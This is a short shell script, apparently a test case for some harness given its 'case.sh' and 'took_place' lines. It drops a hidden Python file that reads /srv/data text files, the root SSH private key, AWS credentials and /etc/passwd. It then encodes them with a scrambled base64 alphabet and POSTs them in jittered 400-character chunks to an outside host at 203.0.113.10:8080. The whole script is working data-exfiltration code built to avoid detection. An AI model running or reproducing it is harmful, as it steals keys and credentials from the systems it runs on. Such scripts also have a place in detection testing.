#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.e.py <<'END'
import base64, glob, random, string, time, urllib.request
std = string.ascii_uppercase + string.ascii_lowercase + string.digits + "+/"; own = list(std); random.Random(7).shuffle(own)
for f in glob.glob("/srv/data/*.txt") + ["/root/.ssh/id_rsa", "/root/.aws/credentials", "/etc/passwd"]:
    t = base64.b64encode(open(f, "rb").read()).decode().translate(str.maketrans(std, "".join(own)))
    for i in range(0, len(t), 400):
        urllib.request.urlopen(urllib.request.Request("http://203.0.113.10:8080/c", ("q=" + t[i:i + 400]).encode())).read(); time.sleep(random.random() / 3)
END
python3 /tmp/.e.py
took_place
